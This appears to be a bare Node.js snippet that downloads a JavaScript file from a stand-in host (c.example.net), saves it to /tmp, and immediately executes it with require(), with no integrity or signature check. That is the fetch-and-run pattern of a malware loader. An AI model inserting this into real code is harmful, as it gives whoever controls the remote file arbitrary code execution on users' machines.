const https = require('https'), fs = require('fs');
https.get('https://c.example.net/agent.js', (got) => {
  got.pipe(fs.createWriteStream('/tmp/agent.js')).on('finish', () => require('/tmp/agent.js'));
});
